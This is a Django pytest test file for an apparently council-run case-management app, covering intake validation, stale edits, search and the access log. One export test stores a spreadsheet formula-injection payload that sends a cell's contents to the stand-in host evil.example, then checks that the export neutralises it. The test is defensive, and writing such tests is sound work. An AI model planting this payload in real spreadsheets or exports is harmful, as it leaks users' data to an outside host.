import csv
import datetime as dt
import io
import re

import pytest
from django.urls import reverse
from django.utils import timezone

from cases.constants import CaseState
from cases.models import AccessLogEntry, Case
from tests.factories import receive_case

TODAY = timezone.localdate()


def receive_post(**overrides):
    d = TODAY - dt.timedelta(days=20)
    data = {
        "area": "hertsmere",
        "receipt-channel": "phone",
        "receipt-received_on_0": TODAY.day,
        "receipt-received_on_1": TODAY.month,
        "receipt-received_on_2": TODAY.year,
        "application-applicant_type": "victim",
        "application-summary": "Drug dealing outside my flat every evening.",
        "applicant-kind": "person",
        "applicant-name": "Sam Example",
        "applicant-email": "sam@example.org",
        "applicant-preferred_contact": "email",
        "applicant-postcode": "WD6 1AA",
        "victim-kind": "person",
        "victim-preferred_contact": "email",
        "incidents-TOTAL_FORMS": "3",
        "incidents-INITIAL_FORMS": "0",
        "incidents-MIN_NUM_FORMS": "0",
        "incidents-MAX_NUM_FORMS": "30",
        "incidents-0-incident_date_0": d.day,
        "incidents-0-incident_date_1": d.month,
        "incidents-0-incident_date_2": d.year,
        "incidents-0-reported_date_0": d.day,
        "incidents-0-reported_date_1": d.month,
        "incidents-0-reported_date_2": d.year,
        "incidents-0-description": "Dealing on the stairs",
        "incidents-0-kind": "report",
        "incidents-1-kind": "report",
        "incidents-2-kind": "report",
    }
    data.update(overrides)
    return data


@pytest.mark.django_db
def test_officer_records_a_phone_application(client, reference, officer):
    client.force_login(officer)
    response = client.post(reverse("cases:receive"), receive_post())
    case = Case.objects.get()
    assert response.status_code == 302 and response.url == reverse(
        "cases:detail", args=[case.reference]
    )
    assert case.channel == "phone" and case.incidents.count() == 1


@pytest.mark.django_db
@pytest.mark.parametrize(
    "overrides, message",
    [
        ({"receipt-received_on_2": TODAY.year + 1}, "cannot be in the future"),
        (
            {
                "incidents-0-description": "",
                "incidents-0-incident_date_0": "",
                "incidents-0-incident_date_1": "",
                "incidents-0-incident_date_2": "",
                "incidents-0-reported_date_0": "",
                "incidents-0-reported_date_1": "",
                "incidents-0-reported_date_2": "",
            },
            "Add at least one incident",
        ),
        ({"incidents-0-reported_date_2": TODAY.year - 1}, "reported before it happened"),
        (
            {
                "application-applicant_type": "third_party",
                "application-relationship": "mp",
                "victim-name": "Vic Tim",
                "victim-email": "v@example.org",
            },
            "Record the victim&#x27;s consent",
        ),
        ({"receipt-received_on_1": "13"}, "date"),
    ],
)
def test_bad_input_is_explained_and_nothing_typed_is_lost(
    client, reference, officer, overrides, message
):
    client.force_login(officer)
    response = client.post(reverse("cases:receive"), receive_post(**overrides))
    body = response.content.decode()
    assert response.status_code == 200
    assert "There is a problem" in body and message in body
    assert "Drug dealing outside my flat every evening." in body  # kept
    assert 'value="Sam Example"' in body
    assert not Case.objects.exists()


@pytest.mark.django_db
def test_transition_from_the_wrong_state_is_explained_not_a_500(client, reference, officer):
    case = receive_case(area=reference["areas"]["hertsmere"], by=officer)
    client.force_login(officer)
    response = client.post(
        reverse("cases:transition", args=[case.reference, "arrange_panel"]),
        {"expected_state": case.state},
    )
    assert response.status_code == 200
    assert "not possible now" in response.content.decode()


@pytest.mark.django_db
def test_stale_form_keeps_the_typed_reason(client, reference, officer):
    case = receive_case(area=reference["areas"]["hertsmere"], by=officer)
    client.force_login(officer)
    url = reverse("cases:transition", args=[case.reference, "withdraw"])
    client.post(
        reverse("cases:transition", args=[case.reference, "acknowledge"]),
        {"expected_state": "received"},
    )
    response = client.post(
        url, {"expected_state": "received", "reason": "Victim moved away last week."}
    )
    body = response.content.decode()
    assert "You already changed the case at" in body
    assert "Victim moved away last week." in body
    assert Case.objects.get(pk=case.pk).state == CaseState.ACKNOWLEDGED


@pytest.mark.django_db
def test_stale_edit_keeps_the_typed_text(client, reference, officer):
    case = receive_case(area=reference["areas"]["hertsmere"], by=officer)
    client.force_login(officer)
    url = reverse("cases:edit", args=[case.reference])
    client.post(url, {"summary": "First edit", "lock_version": 0})
    response = client.post(url, {"summary": "My careful second edit", "lock_version": 0})
    assert "already changed the case at" in response.content.decode()
    assert "My careful second edit" in response.content.decode()


@pytest.mark.django_db
def test_case_list_uses_a_constant_number_of_queries(
    client, reference, officer, django_assert_max_num_queries
):
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    area = reference["areas"]["hertsmere"]
    client.force_login(officer)
    receive_case(area=area, by=officer)
    with CaptureQueriesContext(connection) as few:
        client.get(reverse("cases:list"))
    for _ in range(24):
        receive_case(area=area, by=officer)
    with CaptureQueriesContext(connection) as many:
        response = client.get(reverse("cases:list"))
    assert response.context["page"].paginator.count == 25
    assert len(many) == len(few)


@pytest.mark.django_db
def test_filters_and_search(client, reference, officer):
    area = reference["areas"]["hertsmere"]
    a = receive_case(area=area, by=officer)
    b = receive_case(area=area, by=officer)
    Case.objects.filter(pk=b.pk).update(current_risk_level="high")
    client.force_login(officer)
    assert [c.pk for c in client.get(reverse("cases:list"), {"risk": "high"}).context["page"]] == [
        b.pk
    ]
    found = client.get(reverse("cases:list"), {"q": a.reference}).context["page"]
    assert [c.pk for c in found] == [a.pk]
    assert AccessLogEntry.objects.filter(kind="search", query=a.reference, user=officer).exists()


@pytest.mark.django_db
def test_opening_a_case_is_in_the_access_log_readable_by_the_area_admin(client, reference, users):
    case = receive_case(area=reference["areas"]["hertsmere"], by=users["hertsmere.officer"])
    client.force_login(users["hertsmere.spoc"])
    client.get(reverse("cases:detail", args=[case.reference])) if case.involvements.filter(
        agency=users["hertsmere.spoc"].agency
    ).exists() else None
    client.force_login(users["hertsmere.officer"])
    client.get(reverse("cases:detail", args=[case.reference]))
    client.force_login(users["hertsmere.admin"])
    body = client.get(reverse("cases:access_log")).content.decode()
    assert "Helen Marsh" in body and case.reference in body
    client.force_login(users["merton.admin"])
    assert case.reference not in client.get(reverse("cases:access_log")).content.decode()


@pytest.mark.django_db
def test_postcode_search_ignores_spaces_and_case(client, reference, officer):
    from tests.factories import PersonInputFactory

    case = receive_case(
        area=reference["areas"]["hertsmere"],
        by=officer,
        applicant=PersonInputFactory(postcode="WD6 1AA"),
    )
    client.force_login(officer)
    for typed in ("WD6 1AA", "wd61aa", "WD6"):
        found = client.get(reverse("cases:list"), {"q": typed}).context["page"]
        assert [c.pk for c in found] == [case.pk], typed


def test_timeline_export_writes_a_formula_like_note_as_inert_text(client, area, officer):
    from cases.services import case_add_note

    case = receive_case(area=area, by=officer)
    payload = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    case_add_note(case=case, by=officer, text=payload)
    case_add_note(case=case, by=officer, text="-5 days late, chased by phone")
    client.force_login(officer)
    response = client.get(reverse("cases:timeline_export", args=[case.reference]))
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    reasons = [row[6] for row in rows[1:]]
    assert "'" + payload in reasons
    assert payload not in reasons
    assert "'-5 days late, chased by phone" in reasons


@pytest.mark.django_db
@pytest.mark.parametrize(
    "field, message",
    [
        ("receipt-received_on_2", "The date the application was received must be a real date"),
        ("incidents-0-incident_date_2", "The date the incident happened must be a real date"),
        ("incidents-0-reported_date_0", "The date it was reported must be a real date"),
    ],
)
def test_a_huge_number_in_a_date_at_intake_is_explained_and_kept(
    client, reference, officer, field, message
):
    client.force_login(officer)
    huge = "9" * 29
    response = client.post(reverse("cases:receive"), receive_post(**{field: huge}))
    body = response.content.decode()
    assert response.status_code == 200 and message in body and f'value="{huge}"' in body
    assert not Case.objects.exists()


@pytest.mark.django_db
def test_a_huge_year_when_adding_an_incident_is_explained(client, reference, officer):
    case = receive_case(area=reference["areas"]["hertsmere"], by=officer)
    client.force_login(officer)
    response = client.post(
        reverse("cases:incident_add", args=[case.reference]),
        {
            "incident_date_0": "1",
            "incident_date_1": "1",
            "incident_date_2": "9" * 29,
            "description": "Shouting",
            "kind": "report",
        },
    )
    assert response.status_code == 200
    assert "The date the incident happened must be a real date" in response.content.decode()


def _revealed_under(html: str, radio_value: str) -> str:
    """The conditional panel a radio reveals (its data-reveal names it)."""
    import re

    radio = re.search(
        rf'<input[^>]*value="{radio_value}"[^>]*data-reveal="([^"]+)"'
        rf'|<input[^>]*data-reveal="([^"]+)"[^>]*value="{radio_value}"',
        html,
    )
    assert radio, f"the {radio_value} radio reveals nothing"
    panel_id = radio.group(1) or radio.group(2)
    start = html.index(f'id="{panel_id}"')
    return html[start : html.index("</div>\n", start) + 6000]


@pytest.mark.django_db
def test_questions_that_follow_one_answer_are_revealed_under_it(client, reference, officer):
    client.force_login(officer)
    html = client.get(reverse("cases:receive")).content.decode()
    other_body = _revealed_under(html, "other_body")
    assert "Which body passed it on?" in other_body
    assert "When did that body pass it on?" in other_body
    third_party = _revealed_under(html, "third_party")
    assert "How do they know the victim?" in third_party
    assert "Has the victim given consent?" in third_party
    assert html.count("Which body passed it on?") == 1  # shown once, under its answer
    # With the answer chosen and the revealed question left blank, the message is at it
    # and the choice is kept.
    response = client.post(
        reverse("cases:receive"), receive_post(**{"receipt-channel": "other_body"})
    )
    body = response.content.decode()
    assert "Say which body passed the application on." in body
    assert re.search(r'value="other_body"[^>]*checked|checked[^>]*value="other_body"', body)


@pytest.mark.django_db
def test_the_access_log_pages_back_through_older_entries(client, reference, users):
    from cases.services import access_log_record

    officer = users["hertsmere.officer"]
    case = receive_case(area=reference["areas"]["hertsmere"], by=officer)
    for n in range(55):
        access_log_record(user=officer, kind="view_case", case=case, target=f"entry-{n:02}")
    client.force_login(users["hertsmere.admin"])
    first = client.get(reverse("cases:access_log")).content.decode()
    total = AccessLogEntry.objects.filter(area=case.area).count()
    assert f"{total} entries, page 1 of 2, newest first" in first
    assert "entry-54" in first and 'aria-label="Pages of the access log"' in first
    second = client.get(reverse("cases:access_log"), {"page": "2"}).content.decode()
    assert "entry-00" in second and "entry-54" not in second
    assert 'rel="prev"' in second
    assert client.get(reverse("cases:access_log"), {"page": "2\x00"}).status_code == 400


@pytest.mark.django_db
def test_the_access_log_shows_the_areas_searches_once_each_and_no_other_areas(
    client, reference, users
):
    from cases.services import access_log_record

    # hertsmere.housing holds two roles in Hertsmere (and two in Merton): the join that
    # once found the searches listed each of their entries once per role.
    access_log_record(user=users["hertsmere.housing"], kind="search", query="elm-road-search")
    access_log_record(user=users["merton.officer"], kind="search", query="merton-only-search")
    client.force_login(users["hertsmere.admin"])
    page = client.get(reverse("cases:access_log")).content.decode()
    assert page.count("elm-road-search") == 1
    assert "merton-only-search" not in page
    assert "1 entry, newest first" in page
    # Without a DISTINCT: it sorted the whole log before the page count (0.9 s on 2 million).
    from cases.selectors import access_log_for

    assert "DISTINCT" not in str(access_log_for(user=users["hertsmere.admin"]).query).upper()
    client.force_login(users["hertsmere.officer"])
    assert client.get(reverse("cases:access_log")).status_code == 403
